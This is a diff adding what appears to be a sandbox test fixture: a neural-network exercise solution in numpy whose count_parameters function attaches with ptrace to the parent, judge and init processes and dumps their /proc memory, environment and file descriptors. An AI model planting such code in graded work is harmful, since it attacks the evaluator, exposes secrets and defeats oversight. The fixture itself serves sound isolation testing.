@@ -1,0 +1,54 @@
+# attack: attaches to the judge and writes into its memory
+# exercise: exercise1
+# expect: others=passed
+# must-not: read-canary
+import numpy as np
+
+
+def relu(z):
+    return np.maximum(z, 0.0)
+
+
+def sigmoid(z):
+    small = np.exp(-np.abs(z))
+    return np.where(z >= 0, 1.0, small) / (1.0 + small)
+
+
+def tanh(z):
+    return np.tanh(z)
+
+
+def softmax(z):
+    e = np.exp(z - z.max(axis=1, keepdims=True))
+    return e / e.sum(axis=1, keepdims=True)
+
+
+def linear(a, W, b):
+    return a @ W + b
+
+
+def forward(params, X):
+    n = len(params) // 2
+    for i in range(1, n):
+        X = relu(linear(X, params[f"W{i}"], params[f"b{i}"]))
+    return sigmoid(linear(X, params[f"W{n}"], params[f"b{n}"]))
+
+
+def predict(params, X):
+    return (forward(params, X) > 0.5).astype(int)
+
+
+def count_parameters(layer_sizes):
+    import ctypes
+    import os
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    for pid in (os.getppid(), @JUDGEPID@, 1):
+        libc.ptrace(16, pid, 0, 0)
+        libc.process_vm_readv(pid, None, 0, None, 0, 0)
+        for name in ("mem", "environ", "fd/3"):
+            try:
+                print(open(f"/proc/{pid}/{name}", "rb").read(4000))
+            except OSError:
+                pass
+    return sum((i + 1) * o for i, o in zip(layer_sizes, layer_sizes[1:]))
